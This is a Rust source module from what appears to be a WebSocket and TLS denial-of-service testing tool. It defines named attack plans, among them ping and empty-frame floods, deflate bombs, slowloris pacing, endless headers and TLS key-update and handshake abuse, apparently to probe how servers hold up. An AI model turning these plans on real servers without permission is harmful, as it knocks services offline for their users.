//! The classes of attack: what each peer of one sends, and how.

use std::{error::Error, time::Duration};

use crate::{
    bits,
    frames::{self, BINARY, COMPRESSED, CONTINUATION, FIN, PING, TEXT},
    greeting,
};

/// What one attacker does. When its connection ends, it comes again.
#[derive(Debug, Clone)]
pub(crate) struct Plan {
    /// Sent first. Empty: not even that.
    pub(crate) request: Vec<u8>,
    /// The rest waits for the end of the answer's head.
    pub(crate) waits: bool,
    /// Sent once after that.
    pub(crate) once: Vec<u8>,
    /// Sent again and again.
    pub(crate) cycle: Vec<u8>,
    /// Bytes of one write.
    pub(crate) piece: usize,
    /// Between two writes.
    pub(crate) pause: Duration,
    /// What arrives is read (and forgotten).
    pub(crate) reads: bool,
    /// Goes as soon as an answer has arrived, over which it resets the connection.
    pub(crate) resets: bool,
    pub(crate) tls: Tls,
}

#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum Tls {
    None,
    /// Each write is a record of its own.
    Records,
    /// New keys before each write, asked for from the other side too.
    Keys,
}

impl Tls {
    pub(crate) fn is_on(self) -> bool {
        self != Self::None
    }
}

pub(crate) const CLASSES: &[&str] = &[
    "empty_continuations",
    "one_byte_fragments",
    "pings",
    "pings_unread",
    "empty_messages",
    "tiny_messages",
    "tiny_compressed",
    "stored_blocks",
    "fixed_blocks",
    "dynamic_blocks",
    "final_blocks",
    "bombs",
    "after_error",
    "heads_by_byte",
    "endless_heads",
    "noise",
    "slowloris",
    "silent",
    "resets",
    "unread",
    "tls_records",
    "tls_keys",
    "tls_noise",
    "tls_greetings",
    "tls_silent",
];

/// Compressed input of one message, beyond what a server with default limits takes.
const COMPRESSED_SIZE: usize = 60_000;

impl Plan {
    pub(crate) fn of(class: &str) -> Result<Self, Box<dyn Error>> {
        let plain = Self::after_upgrade(false);
        let compressed = Self::after_upgrade(true);
        let blocks = |stream: Vec<u8>| frames::frame(FIN | COMPRESSED | BINARY, &stream);
        Ok(match class {
            "empty_continuations" => {
                plain.begun(frames::frame(TEXT, b"")).repeating(frames::many(CONTINUATION, b""))
            }
            "one_byte_fragments" => {
                plain.begun(frames::frame(TEXT, b"")).repeating(frames::many(CONTINUATION, b"a"))
            }
            "pings" => plain.repeating(frames::many(FIN | PING, b"ping")),
            "pings_unread" => Self { reads: false, ..plain.repeating(frames::many(FIN | PING, b"ping")) },
            "empty_messages" => plain.repeating(frames::many(FIN | BINARY, b"")),
            "tiny_messages" => plain.repeating(frames::many(FIN | BINARY, b"x")),
            "tiny_compressed" => {
                compressed.repeating(frames::many(FIN | COMPRESSED | BINARY, bits::ONE_LETTER))
            }
            "stored_blocks" => compressed.repeating(blocks(bits::empty_stored(COMPRESSED_SIZE))),
            "fixed_blocks" => compressed.repeating(blocks(bits::empty_fixed(COMPRESSED_SIZE))),
            "dynamic_blocks" => compressed.repeating(blocks(bits::empty_dynamic(COMPRESSED_SIZE))),
            "final_blocks" => compressed.repeating(blocks(bits::final_blocks(COMPRESSED_SIZE))),
            "bombs" => compressed.repeating(blocks(bits::bomb(COMPRESSED_SIZE))),
            "after_error" => plain.begun(frames::frame(FIN | 0x0b, b"")).repeating(frames::noise()),
            "unread" => Self { reads: false, ..plain },
            "tls_records" => {
                Self { tls: Tls::Records, piece: 1, ..plain.repeating(frames::many(FIN | PING, b"")) }
            }
            "tls_keys" => Self { tls: Tls::Keys, piece: 6, ..plain.repeating(frames::many(FIN | PING, b"")) },
            _ => Self::before_upgrade(class)?,
        })
    }

    /// Those that never get as far as an upgrade.
    fn before_upgrade(class: &str) -> Result<Self, Box<dyn Error>> {
        let nothing = Self { request: Vec::new(), waits: false, ..Self::after_upgrade(false) };
        Ok(match class {
            "heads_by_byte" => Self {
                piece: 1,
                ..nothing.begun(frames::REQUEST_LINE.to_vec()).repeating(frames::endless_head())
            },
            "endless_heads" => nothing.begun(frames::REQUEST_LINE.to_vec()).repeating(frames::endless_head()),
            "noise" | "tls_noise" => nothing.repeating(frames::noise()),
            "slowloris" => Self {
                piece: 1,
                pause: Duration::from_millis(500),
                ..nothing.repeating(frames::request(false))
            },
            "silent" | "tls_silent" => nothing,
            "resets" => Self { request: frames::request(false), resets: true, ..nothing },
            "tls_greetings" => Self { request: greeting::client_hello()?, resets: true, ..nothing },
            _ => return Err(format!("'{class}' is no class; 'attack list' prints them").into()),
        })
    }

    fn after_upgrade(offers_compression: bool) -> Self {
        Self {
            request: frames::request(offers_compression),
            waits: true,
            once: Vec::new(),
            cycle: Vec::new(),
            piece: usize::MAX,
            pause: Duration::ZERO,
            reads: true,
            resets: false,
            tls: Tls::None,
        }
    }

    fn begun(self, once: Vec<u8>) -> Self {
        Self { once, ..self }
    }

    fn repeating(self, cycle: Vec<u8>) -> Self {
        Self { cycle, ..self }
    }
}
